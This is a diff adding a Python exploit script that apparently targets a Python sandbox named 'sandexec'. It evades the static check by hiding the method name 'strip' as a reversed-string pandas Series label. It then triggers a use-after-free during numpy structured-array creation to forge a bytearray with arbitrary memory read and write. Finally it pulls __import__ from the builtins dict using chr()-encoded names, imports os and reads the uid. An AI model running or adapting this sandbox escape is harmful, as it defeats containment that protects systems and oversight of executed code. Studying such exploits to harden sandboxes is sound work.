@@ -1,0 +1,84 @@
+# source: sandexec README, "The static check", conversion rule (allowed method named only in '.strip(' calls) vs pandas NDFrame.__getattr__: a Series' index label read as an attribute; numpy 1.24 VOID_setitem (arraytypes.c.src) reads a structured row's tuple items borrowed; CPython tuple free list keeps ob_item[1]
+# family: script function bound to an allowed conversion method name through a label the library turns into an attribute (series_label), called from __float__ during np.array() of a structured row -> use-after-free
+# goal: same hole as attack12bv_001_strip_via_series_label_float.py, carried on: with the forged bytearray's read/write, put the builtins dict (read from a def's func_builtins) into a __slots__ field, then __import__ by a chr()-built name: imports 'this' (prints the Zen) and 'os' (uid shown)
+import numpy as np
+import pandas as pd
+
+keep = []
+hold = []
+
+
+def addr_of_type(t):
+    y = hash(t) % (1 << 64)
+    return ((y << 4) | (y >> 60)) % (1 << 64)
+
+
+BA = addr_of_type(bytearray)
+
+
+def q(v):
+    return (v % (1 << 64)).to_bytes(8, "little")
+
+
+def boom(*a, **k):
+    junk = [(n, n + 1) for n in range(300)]
+    hold[0][0] = 0
+    payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
+    payload = payload + bytes(479 - len(payload))
+    for n in range(8):
+        keep.append(bytearray(payload))
+    junk.clear()
+    return 1.0
+
+
+NAME = "pirts"[::-1]
+
+
+class A:
+    def __init__(self, s):
+        self.s = s
+
+    def __float__(self):
+        return float(self.s.strip())
+
+
+lst = [(A(pd.Series([boom], index=[NAME])), bytes(447))]
+hold.append(lst)
+arr = np.array(lst, dtype=[("x", "f8"), ("y", "O")])
+fake = arr["y"][0]
+print("fake object:", type(fake), len(fake))
+
+
+def rd(addr):
+    return int.from_bytes(bytes(fake[addr:addr + 8]), "little")
+
+
+def wr(addr, v):
+    fake[addr:addr + 8] = q(v)
+
+
+def where(x):
+    return int(repr(x).split("at ")[1][:-1], 16)
+
+
+class Box:
+    __slots__ = ("v",)
+
+
+def probe():
+    return 0
+
+
+box = Box()
+box.v = None
+fn = where(probe)
+bdict = rd(fn + 24)
+wr(bdict, rd(bdict) + 1)
+wr(where(box) + 16, bdict)
+table = box.v
+name = "".join(chr(c) for c in (95, 95, 105, 109, 112, 111, 114, 116, 95, 95))
+imp = table[name]
+print("got", imp)
+mod = imp("".join(chr(c) for c in (116, 104, 105, 115)))
+osm = imp("".join(chr(c) for c in (111, 115)))
+print("module os:", osm, "uid", osm.getuid())
